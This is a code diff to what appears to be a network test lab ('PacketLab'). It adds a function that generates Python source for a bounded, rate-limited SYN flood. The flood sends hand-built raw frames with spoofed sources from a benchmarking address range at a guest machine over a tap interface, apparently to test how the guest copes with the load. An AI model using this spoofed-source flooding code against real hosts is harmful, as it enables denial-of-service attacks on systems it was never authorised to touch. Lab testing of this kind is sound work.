@@ -78,6 +78,67 @@ class PacketLab:
                 self.proc.wait(timeout=5)
 
 
+def syn_flood(guest, guest_mac, tap, port, max_syns, pps, seed):
+    """Python source (for a snippet run inside the namespace) of a bounded
+    SYN flood at guest:port: hand-built raw frames on the tap from random
+    sources in 198.18.0.0/15 outside 198.18.0.0/24 (so the guest answers
+    through its gateway, Linux, which drops the SYN-ACKs, instead of
+    ARPing for each; hping3 --rand-source would pick any IPv4 address).
+    The source defines `th`, a thread (not yet started) that sends at
+    most max_syns SYNs at about pps a second, `done`, an Event that stops
+    it early, `sent`, a one-element list with the count so far, and
+    `raw`, the AF_PACKET socket to close afterwards."""
+    return f"""
+import random, socket, struct, threading, time
+rng = random.Random({seed})
+dst_ip = socket.inet_aton({guest!r})
+dst_mac = bytes.fromhex({guest_mac.replace(":", "")!r})
+src_mac = bytes.fromhex(open("/sys/class/net/{tap}/address").read().strip()
+                        .replace(":", ""))
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+raw.bind(({tap!r}, 0))
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+def syn(i):
+    while True:
+        host = rng.getrandbits(17)
+        if host >> 8:  # not in 198.18.0.0/24
+            break
+    src = struct.pack("!I", (198 << 24) | (18 << 16) | host)
+    tcp = struct.pack("!HHIIBBHHH", rng.randint(1024, 65535), {port},
+                      rng.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0)
+    tcp += b"\\x02\\x04\\x05\\xb4"  # MSS 1460
+    c = csum(src + dst_ip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0,
+                     64, 6, 0, src, dst_ip)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return dst_mac + src_mac + b"\\x08\\x00" + ip + tcp
+
+done = threading.Event()
+sent = [0]
+
+def flood():
+    t0 = time.time()
+    while sent[0] < {max_syns} and not done.is_set():
+        raw.send(syn(sent[0]))
+        sent[0] += 1
+        if sent[0] % 50 == 0:
+            ahead = t0 + sent[0] / {pps} - time.time()
+            if ahead > 0:
+                time.sleep(ahead)
+
+th = threading.Thread(target=flood)
+"""
+
+
 # ---- the namespace side ------------------------------------------------------
 
 def _serve(tap, guest_mac):
